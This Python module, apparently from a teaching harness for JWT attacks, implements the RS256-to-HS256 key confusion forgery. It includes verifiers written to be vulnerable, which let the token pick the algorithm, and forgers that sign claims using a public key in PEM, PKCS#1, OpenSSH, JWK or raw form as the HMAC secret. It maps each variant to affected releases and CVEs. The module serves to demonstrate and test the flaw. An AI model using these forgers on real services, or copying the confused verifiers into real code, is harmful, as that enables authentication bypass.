"""RS256 to HS256: the published key, used as a secret.

The token picks the algorithm, and the verifier has one key for all of
them.  A token that says HS256 is then checked with the text of the public
key as the HMAC secret, and everybody has that text.  A public key can be
written in several forms; each form is another secret, so the forger tries
them.  Source: RFC 8725 section 2.1, CWE-347.
"""

import base64
import json
from collections.abc import Callable
from functools import partial
from typing import Any, ClassVar

import jwt

from demo.attacks.base import Attack, Attacker, with_token
from demo.attacks.forging import (
    ASYMMETRIC,
    alices_claims,
    by_secret,
    header,
    public_key,
)
from demo.attacks.turning import Flip, overriding
from demo.contenders import contender
from demo.harness import Client, NotApplicable
from demo.harness.tokens import confused, sealed
from demo.keys import Key
from demo.schemes import JWT

KeyText = Callable[[Key], bytes]

# The forms in which a service may hold, and publish, a public key


def spki_pem(key: Key) -> bytes:
    """What `openssl pkey -pubout` writes.  Source: RFC 7468 section 13."""
    return key.pem()


def escaped_pem(key: Key) -> bytes:
    r"""The same on one line, each newline written as `\n`, as it is put
    into an environment variable."""
    return spki_pem(key).replace(b"\n", rb"\n")


def bare_base64(key: Key) -> bytes:
    """The same without its frame, as some identity providers show it."""
    return base64.b64encode(written(key, "DER", "SubjectPublicKeyInfo"))


def pkcs1_pem(key: Key) -> bytes:
    """`BEGIN RSA PUBLIC KEY`.  Source: RFC 8017 appendix A.1.1."""
    return written(key, "PEM", "PKCS1")


def openssh(key: Key) -> bytes:
    """One line, as in an `authorized_keys` file."""
    return written(key, "OpenSSH", "OpenSSH")


def raw_bytes(key: Key) -> bytes:
    """The 32 bytes of an Ed25519 key.  Source: RFC 8032 section 5.1.2."""
    return written(key, "Raw", "Raw")


def written(key: Key, encoding: str, form: str) -> bytes:
    """Whatever cryptography writes under these two names."""
    from cryptography.hazmat.primitives import serialization as s

    return bytes(
        key.verifying.public_bytes(
            getattr(s.Encoding, encoding), getattr(s.PublicFormat, form)
        )
    )


def jwk_json(key: Key) -> bytes:
    """A JSON Web Key, as text.  Source: RFC 7517 section 4."""
    return json.dumps(jwk_of(key)).encode()


def jwk_of(key: Key) -> dict[str, Any]:
    """The half that verifies, as a JSON Web Key."""
    family = jwt.get_algorithm_by_name(key.algorithm)
    return dict(family.to_jwk(key.verifying, as_dict=True))


TEXTS: dict[str, tuple[KeyText, tuple[str, ...]]] = {
    "PEM on one line": (escaped_pem, ASYMMETRIC),
    "bare base64": (bare_base64, ASYMMETRIC),
    "PKCS#1 PEM": (pkcs1_pem, ("RS256",)),
    "OpenSSH": (openssh, ASYMMETRIC),
    "JWK": (jwk_json, ASYMMETRIC),
    "raw bytes": (raw_bytes, ("EdDSA",)),
}
"""Forms that a release took for a secret, and two that PyJWT takes for
one to this day: the name of the form, how it is written, and the
algorithms whose keys have it."""

# Verifiers that ask the token


class PicksByHeader(JWT):
    """Overrides `allowed`: it allows whatever algorithm the token names."""

    def allowed(self, token: str) -> list[str]:
        return [jwt.get_unverified_header(token)["alg"]]


FOLLOWS_HEADER = Flip(
    "algorithms allowed",
    "the one that the token names",
    overriding(JWT, PicksByHeader),
    tempting="default: python-jose, algorithms is None",
)
"""No attack of the book lands by this turn alone: PyJWT looks at the key
as well, and refuses a public key as a secret."""


class ConfusesKeys(JWT):
    """Overrides `decode`: the token picks the algorithm, and the key's
    published text then serves as an HMAC secret.

    text: the form in which the service holds that key."""

    text: "ClassVar[staticmethod[[Key], bytes]]" = staticmethod(spki_pem)

    def decode(self, token: str) -> dict[str, Any]:
        if jwt.get_unverified_header(token)["alg"] != "HS256":
            return super().decode(token)
        return by_secret(self, self.text(self.key), token)


def holding(text: KeyText) -> type[ConfusesKeys]:
    """The same verifier, where it holds its key in another form."""
    about = {"__doc__": ConfusesKeys.__doc__, "__module__": __name__}
    changed = {**about, "text": staticmethod(text)}
    return type(f"Confuses_{text.__name__}", (ConfusesKeys,), changed)


MIXES_KEYS = Flip(
    "algorithm",
    "the token's, with one key for all",
    overriding(JWT, ConfusesKeys, *ASYMMETRIC),
)
MIXES_KEYS_AS: dict[str, Flip] = {
    name: Flip(
        "algorithm",
        f"the token's, with one key for all, held as {name}",
        overriding(JWT, holding(text), *algorithms),
    )
    for name, (text, algorithms) in TEXTS.items()
}
"""The same mistake, for each form in which the key is held."""

# What the forger sends


def forge_confusion(attacker: Attacker) -> Client:
    """Alice's claims, with the published PEM as the secret."""
    claims = alices_claims(attacker)
    token = confused(public_key(attacker), claims, header(attacker))
    return with_token(attacker, token)


def forge_by_form(attacker: Attacker, form: str) -> Client:
    """Alice's claims, and an HMAC whose secret is the published key,
    written in another form.  Raises NotApplicable when this kind of key
    has no such form."""
    claims, key = alices_claims(attacker), public_key(attacker)
    write, algorithms = TEXTS[form]
    if key.algorithm not in algorithms:
        raise NotApplicable("the key has no such form")
    token = sealed(write(key), claims, header(attacker))
    return with_token(attacker, token)


KEY_CONFUSION = Attack(
    id="key-confusion",
    name="RS256 to HS256",
    claim="A token signed with the published key as a secret enters.",
    family="signature",
    source="RFC 8725 section 2.1, CWE-347",
    forge=forge_confusion,
    fixed=contender("JWT RS256"),
    flip=MIXES_KEYS,
    chapter="forge-the-token",
    releases=(
        "pyjwt_public_pem",
        "authlib_public_pem",
        "joserfc_public_pem",
        "jwt_simple_public_pem",
        "fast_jwt_indented_pem",
    ),
)


def by_form(
    id: str, form: str, algorithm: str, known: str = "", *releases: str
) -> Attack:
    """known: the CVE of a release that fell for this form."""
    source = "RFC 8725 section 2.1, CWE-347"
    return Attack(
        id=f"confusion-{id}",
        name=f"{algorithm} to HS256, by {form}",
        claim=f"An {algorithm} key held as {form} serves as a secret.",
        family="signature",
        source=f"{source}, {known}" if known else source,
        forge=partial(forge_by_form, form=form),
        fixed=contender(f"JWT {algorithm}"),
        flip=MIXES_KEYS_AS[form],
        chapter="forge-the-token",
        releases=releases,
    )


ATTACKS = (
    KEY_CONFUSION,
    by_form(
        "escaped-pem",
        "PEM on one line",
        "RS256",
        "CVE-2026-102268",
        "pyjwt_one_line_pem",
    ),
    by_form("bare-base64", "bare base64", "RS256"),
    by_form(
        "pkcs1",
        "PKCS#1 PEM",
        "RS256",
        "CVE-2017-11424",
        "pyjwt_rsa_public_pem",
        "jsonwebtoken_rsa_public_pem",
        "fast_jwt_rsa_public_pem",
    ),
    by_form("jwk-rsa", "JWK", "RS256", "CVE-2026-48526", "pyjwt_jwk_text"),
    by_form(
        "openssh-ecdsa",
        "OpenSSH",
        "ES256",
        "CVE-2024-33663, CVE-2022-29217",
        "jose_ssh_key",
        "pyjwt_ssh_key",
    ),
    by_form("openssh-ed25519", "OpenSSH", "EdDSA", "CVE-2022-29217"),
    by_form("raw-ed25519", "raw bytes", "EdDSA"),
)
